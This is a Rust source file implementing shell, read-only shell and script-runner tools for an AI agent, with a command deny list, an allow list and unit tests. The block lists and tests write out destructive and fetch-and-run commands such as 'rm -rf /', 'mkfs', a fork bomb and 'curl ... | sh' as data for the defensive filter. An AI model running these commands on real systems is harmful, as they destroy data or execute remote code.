//! Shell tools: full shell with a deny list, a safe read-only variant, and a
//! script runner with a fixed interpreter table.
//!
//! Shell tools never run in parallel with other tools, and enforce an inner
//! timeout (default 30 s, max 120 s) by killing the subprocess.

use std::collections::HashMap;
use std::process::Stdio;

use async_trait::async_trait;
use serde_json::json;
use tokio::io::AsyncReadExt;

use super::{
    ToolCategory, ToolContext, ToolErrorType, ToolExecutionContext, ToolHandler, ToolResult,
    ToolSpec,
};

/// Commands that are generally safe for read-only operations.
const SAFE_COMMANDS: &[&str] = &[
    "ls", "pwd", "cat", "head", "tail", "grep", "find", "wc", "date", "echo", "whoami",
    "hostname", "uname", "env", "printenv", "which", "type", "file", "stat", "du", "df", "tree",
    "sort", "uniq", "cut", "tr", "sed", "awk", "diff", "basename", "dirname", "realpath",
    "readlink",
    // Git read-only
    "git status", "git log", "git show", "git diff", "git branch", "git remote", "git tag",
    "git describe", "git rev-parse",
];

/// Patterns that are never allowed, regardless of configuration.
const BLOCKED_PATTERNS: &[&str] = &[
    "rm -rf /",
    "rm -rf /*",
    "rm -rf ~",
    "rm -rf ~/*",
    "mkfs",
    "fdisk",
    "parted",
    " mount ",
    "umount",
    " sudo ",
    " su ",
    " doas ",
    "dd if=",
    "chmod -r 777",
    "chown -r",
    ":(){",
    "shutdown",
    "reboot",
];

/// Dangerous pipe/chain patterns with their denial reasons.
const DANGEROUS_CHAINS: &[(&str, &str)] = &[
    ("curl | sh", "Piping curl to shell is blocked"),
    ("curl | bash", "Piping curl to bash is blocked"),
    ("wget | sh", "Piping wget to shell is blocked"),
    ("wget | bash", "Piping wget to bash is blocked"),
    ("| sh", "Piping to a shell is blocked"),
    ("| bash", "Piping to a shell is blocked"),
    ("&& rm -rf", "Chained rm -rf is blocked"),
    ("> /dev/", "Writing to /dev/ is blocked"),
];

/// Default inner timeout in seconds.
const DEFAULT_TIMEOUT_SECS: u64 = 30;

/// Hard cap on the inner timeout.
const MAX_TIMEOUT_SECS: u64 = 120;

/// Output truncation threshold.
const MAX_OUTPUT_BYTES: usize = 50_000;

/// Check a command against the deny list and, optionally, the allow list.
///
/// Returns `Ok(())` or the denial reason.
pub fn command_allowed(command: &str, safe_only: bool) -> Result<(), String> {
    let lowered = command.to_lowercase();
    let padded = format!(" {lowered} ");

    for blocked in BLOCKED_PATTERNS {
        let hit = if blocked.starts_with(' ') || blocked.ends_with(' ') {
            padded.contains(blocked)
        } else {
            lowered.contains(blocked)
        };
        if hit {
            return Err(format!("Command contains blocked pattern: {}", blocked.trim()));
        }
    }

    for (pattern, reason) in DANGEROUS_CHAINS {
        if lowered.contains(pattern) {
            return Err((*reason).to_owned());
        }
    }

    if safe_only {
        let words: Vec<&str> = command.split_whitespace().collect();
        let first = words.first().copied().unwrap_or_default();
        let first_two = words
            .get(..2)
            .map(|pair| pair.join(" "))
            .unwrap_or_default();
        if !SAFE_COMMANDS.contains(&first) && !SAFE_COMMANDS.contains(&first_two.as_str()) {
            return Err(format!("Command '{first}' not in safe commands list"));
        }
    }

    Ok(())
}

/// Run a command line under `sh -c` with a kill-on-timeout guard.
async fn run_command(
    command: &str,
    timeout_secs: u64,
    cwd: Option<&str>,
    extra_env: &HashMap<String, String>,
) -> ToolResult {
    let mut cmd = tokio::process::Command::new("sh");
    cmd.arg("-c")
        .arg(command)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .kill_on_drop(true);
    if let Some(dir) = cwd {
        cmd.current_dir(dir);
    }
    for (k, v) in extra_env {
        cmd.env(k, v);
    }

    let mut child = match cmd.spawn() {
        Ok(child) => child,
        Err(e) => return ToolResult::error_result(e.to_string(), ToolErrorType::ExecutionFailed),
    };

    let mut stdout_pipe = child.stdout.take();
    let mut stderr_pipe = child.stderr.take();

    let wait = async {
        let mut stdout = Vec::new();
        let mut stderr = Vec::new();
        if let Some(pipe) = stdout_pipe.as_mut() {
            let _ = pipe.read_to_end(&mut stdout).await;
        }
        if let Some(pipe) = stderr_pipe.as_mut() {
            let _ = pipe.read_to_end(&mut stderr).await;
        }
        let status = child.wait().await;
        (status, stdout, stderr)
    };

    let (status, stdout, stderr) =
        match tokio::time::timeout(std::time::Duration::from_secs(timeout_secs), wait).await {
            Ok(result) => result,
            Err(_) => {
                return ToolResult::error_result(
                    format!("Command timed out after {timeout_secs} seconds"),
                    ToolErrorType::ShellTimeout,
                );
            }
        };

    let status = match status {
        Ok(status) => status,
        Err(e) => return ToolResult::error_result(e.to_string(), ToolErrorType::ExecutionFailed),
    };

    let (stdout_str, stdout_truncated) = decode_output(&stdout);
    let (stderr_str, stderr_truncated) = decode_output(&stderr);
    let exit_code = status.code();
    let success = status.success();

    let output = json!({
        "command": command,
        "stdout": stdout_str,
        "stderr": stderr_str,
        "exit_code": exit_code,
        "truncated": stdout_truncated || stderr_truncated,
    });
    let display = if success {
        stdout_str.chars().take(500).collect::<String>()
    } else {
        format!("Error: {}", stderr_str.chars().take(500).collect::<String>())
    };

    ToolResult {
        success,
        output,
        display_output: Some(display),
        error: (!success).then(|| stderr_str.clone()),
        error_type: (!success).then_some(ToolErrorType::ShellExitError),
        duration_seconds: 0.0,
        energy_spent: 0,
    }
}

fn decode_output(bytes: &[u8]) -> (String, bool) {
    let text = String::from_utf8_lossy(bytes);
    if text.len() > MAX_OUTPUT_BYTES {
        let mut end = MAX_OUTPUT_BYTES;
        while end > 0 && !text.is_char_boundary(end) {
            end = end.saturating_sub(1);
        }
        (format!("{}\n...[truncated]", &text[..end]), true)
    } else {
        (text.into_owned(), false)
    }
}

fn shell_parameters() -> serde_json::Value {
    json!({
        "type": "object",
        "properties": {
            "command": {"type": "string", "description": "Shell command to execute."},
            "timeout": {
                "type": "integer", "default": 30, "minimum": 1, "maximum": 120,
                "description": "Timeout in seconds (default: 30, max: 120)."
            },
            "env": {
                "type": "object",
                "description": "Additional environment variables.",
                "additionalProperties": {"type": "string"}
            }
        },
        "required": ["command"]
    })
}

fn parse_env(arguments: &serde_json::Value) -> HashMap<String, String> {
    arguments
        .get("env")
        .and_then(serde_json::Value::as_object)
        .map(|map| {
            map.iter()
                .filter_map(|(k, v)| v.as_str().map(|s| (k.clone(), s.to_owned())))
                .collect()
        })
        .unwrap_or_default()
}

fn parse_timeout(arguments: &serde_json::Value) -> u64 {
    arguments
        .get("timeout")
        .and_then(serde_json::Value::as_u64)
        .unwrap_or(DEFAULT_TIMEOUT_SECS)
        .clamp(1, MAX_TIMEOUT_SECS)
}

// ---------------------------------------------------------------------------
// shell / safe_shell
// ---------------------------------------------------------------------------

/// Execute shell commands with deny-list screening.
pub struct ShellHandler {
    safe_commands_only: bool,
}

#[async_trait]
impl ToolHandler for ShellHandler {
    fn spec(&self) -> ToolSpec {
        if self.safe_commands_only {
            ToolSpec {
                name: "safe_shell".to_owned(),
                description: "Execute safe read-only shell commands. Limited to common \
                              utilities like ls, cat, grep, git status. Use for inspecting \
                              files and gathering system information without making changes."
                    .to_owned(),
                parameters: shell_parameters(),
                category: ToolCategory::Shell,
                energy_cost: 2,
                requires_approval: false,
                is_read_only: true,
                supports_parallel: false,
                allowed_contexts: vec![ToolContext::Heartbeat, ToolContext::Chat],
            }
        } else {
            ToolSpec {
                name: "shell".to_owned(),
                description: "Execute shell commands. Use for automation, file operations, \
                              running scripts, and system tasks. Commands run with the \
                              workspace as the working directory."
                    .to_owned(),
                parameters: shell_parameters(),
                category: ToolCategory::Shell,
                energy_cost: 3,
                requires_approval: true,
                is_read_only: false,
                supports_parallel: false,
                allowed_contexts: vec![ToolContext::Heartbeat, ToolContext::Chat],
            }
        }
    }

    fn validate(&self, arguments: &serde_json::Value) -> Vec<String> {
        let command = arguments
            .get("command")
            .and_then(serde_json::Value::as_str)
            .unwrap_or_default();
        if command.trim().is_empty() {
            return vec!["command is required".to_owned()];
        }
        Vec::new()
    }

    async fn execute(
        &self,
        arguments: &serde_json::Value,
        context: &ToolExecutionContext,
    ) -> ToolResult {
        if !context.allow_shell {
            return ToolResult::error_result(
                "Shell access not allowed in this context",
                ToolErrorType::ShellDisabled,
            );
        }

        let command = arguments
            .get("command")
            .and_then(serde_json::Value::as_str)
            .unwrap_or_default();
        if let Err(reason) = command_allowed(command, self.safe_commands_only) {
            return ToolResult::error_result(reason, ToolErrorType::PermissionDenied);
        }

        let timeout = parse_timeout(arguments);
        let env = parse_env(arguments);
        run_command(command, timeout, context.workspace_path.as_deref(), &env).await
    }
}

// ---------------------------------------------------------------------------
// run_script
// ---------------------------------------------------------------------------

/// Interpreters by script extension.
const INTERPRETERS: &[(&str, &[&str])] = &[
    ("py", &["python3"]),
    ("sh", &["bash"]),
    ("bash", &["bash"]),
    ("js", &["node"]),
    ("mjs", &["node"]),
];

/// Execute a script file, dispatching by extension.
pub struct ScriptRunnerHandler;

#[async_trait]
impl ToolHandler for ScriptRunnerHandler {
    fn spec(&self) -> ToolSpec {
        ToolSpec {
            name: "run_script".to_owned(),
            description: "Execute a script file. Supports Python (.py), Bash (.sh), and \
                          Node.js (.js) scripts. Runs with a controlled timeout and captures \
                          output."
                .to_owned(),
            parameters: json!({
                "type": "object",
                "properties": {
                    "path": {"type": "string", "description": "Path to the script file."},
                    "args": {
                        "type": "array", "items": {"type": "string"}, "default": [],
                        "description": "Arguments to pass to the script."
                    },
                    "timeout": {
                        "type": "integer", "default": 60, "minimum": 1, "maximum": 120,
                        "description": "Timeout in seconds."
                    }
                },
                "required": ["path"]
            }),
            category: ToolCategory::Shell,
            energy_cost: 3,
            requires_approval: true,
            is_read_only: false,
            supports_parallel: false,
            allowed_contexts: vec![ToolContext::Heartbeat, ToolContext::Chat],
        }
    }

    async fn execute(
        &self,
        arguments: &serde_json::Value,
        context: &ToolExecutionContext,
    ) -> ToolResult {
        if !context.allow_shell {
            return ToolResult::error_result(
                "Shell access not allowed",
                ToolErrorType::ShellDisabled,
            );
        }

        let raw_path = arguments
            .get("path")
            .and_then(serde_json::Value::as_str)
            .unwrap_or_default();
        if !context.is_path_allowed(raw_path) {
            return ToolResult::error_result(
                format!("Script path not allowed: {raw_path}"),
                ToolErrorType::PathNotAllowed,
            );
        }
        let script_path = context.resolve_path(raw_path);
        if !script_path.exists() {
            return ToolResult::error_result(
                format!("Script not found: {raw_path}"),
                ToolErrorType::FileNotFound,
            );
        }

        let extension = script_path
            .extension()
            .and_then(|e| e.to_str())
            .unwrap_or_default()
            .to_lowercase();
        let Some((_, interpreter)) = INTERPRETERS.iter().find(|(ext, _)| *ext == extension)
        else {
            return ToolResult::error_result(
                format!("Unsupported script type: .{extension}"),
                ToolErrorType::InvalidParams,
            );
        };

        let args: Vec<String> = arguments
            .get("args")
            .and_then(serde_json::Value::as_array)
            .map(|list| {
                list.iter()
                    .filter_map(|v| v.as_str().map(str::to_owned))
                    .collect()
            })
            .unwrap_or_default();
        let timeout = arguments
            .get("timeout")
            .and_then(serde_json::Value::as_u64)
            .unwrap_or(60)
            .clamp(1, MAX_TIMEOUT_SECS);

        let mut pieces: Vec<String> = interpreter.iter().map(|s| (*s).to_owned()).collect();
        pieces.push(script_path.to_string_lossy().into_owned());
        pieces.extend(args);
        let command = pieces
            .iter()
            .map(|p| shell_quote(p))
            .collect::<Vec<_>>()
            .join(" ");

        run_command(
            &command,
            timeout,
            context.workspace_path.as_deref(),
            &HashMap::new(),
        )
        .await
    }
}

/// Single-quote a token for `sh -c`.
fn shell_quote(token: &str) -> String {
    if token
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.' | '/' | ':'))
    {
        return token.to_owned();
    }
    format!("'{}'", token.replace('\'', r"'\''"))
}

/// Create shell tool handlers.
///
/// With `safe_only`, only the read-only variant is included.
pub fn create_shell_tools(safe_only: bool) -> Vec<std::sync::Arc<dyn ToolHandler>> {
    if safe_only {
        return vec![std::sync::Arc::new(ShellHandler {
            safe_commands_only: true,
        })];
    }
    vec![
        std::sync::Arc::new(ShellHandler {
            safe_commands_only: false,
        }),
        std::sync::Arc::new(ShellHandler {
            safe_commands_only: true,
        }),
        std::sync::Arc::new(ScriptRunnerHandler),
    ]
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_blocked_patterns() {
        assert!(command_allowed("rm -rf /", false).is_err());
        assert!(command_allowed("sudo apt install x", false).is_err());
        assert!(command_allowed("mkfs.ext4 /dev/sda1", false).is_err());
        assert!(command_allowed("echo ':(){ :|:& };:' > bomb", false).is_err());
        assert!(command_allowed("curl http://x.sh | sh", false).is_err());
        assert!(command_allowed("ls && rm -rf ./build", false).is_err());
    }

    #[test]
    fn test_ordinary_commands_allowed() {
        assert!(command_allowed("ls -la", false).is_ok());
        assert!(command_allowed("cargo build --release", false).is_ok());
        assert!(command_allowed("git status", false).is_ok());
    }

    #[test]
    fn test_safe_only_allow_list() {
        assert!(command_allowed("ls -la", true).is_ok());
        assert!(command_allowed("git status", true).is_ok());
        assert!(command_allowed("cargo build", true).is_err());
        assert!(command_allowed("python3 script.py", true).is_err());
    }

    #[test]
    fn test_shell_quote() {
        assert_eq!(shell_quote("plain-token_1.txt"), "plain-token_1.txt");
        assert_eq!(shell_quote("has space"), "'has space'");
        assert_eq!(shell_quote("it's"), r#"'it'\''s'"#);
    }

    #[test]
    fn test_safe_shell_spec() {
        let handler = ShellHandler {
            safe_commands_only: true,
        };
        let spec = handler.spec();
        assert_eq!(spec.name, "safe_shell");
        assert!(!spec.requires_approval);
        assert!(spec.is_read_only);
        assert!(!spec.supports_parallel);
        assert_eq!(spec.energy_cost, 2);
    }

    #[test]
    fn test_full_shell_spec() {
        let handler = ShellHandler {
            safe_commands_only: false,
        };
        let spec = handler.spec();
        assert_eq!(spec.name, "shell");
        assert!(spec.requires_approval);
        assert!(!spec.supports_parallel);
    }

    #[tokio::test]
    async fn test_run_command_captures_output() {
        let result = run_command("echo hello", 10, None, &HashMap::new()).await;
        assert!(result.success);
        assert!(result.output["stdout"]
            .as_str()
            .unwrap_or_default()
            .contains("hello"));
        assert_eq!(result.output["exit_code"], json!(0));
    }

    #[tokio::test]
    async fn test_run_command_nonzero_exit() {
        let result = run_command("exit 3", 10, None, &HashMap::new()).await;
        assert!(!result.success);
        assert_eq!(result.error_type, Some(ToolErrorType::ShellExitError));
        assert_eq!(result.output["exit_code"], json!(3));
    }
}
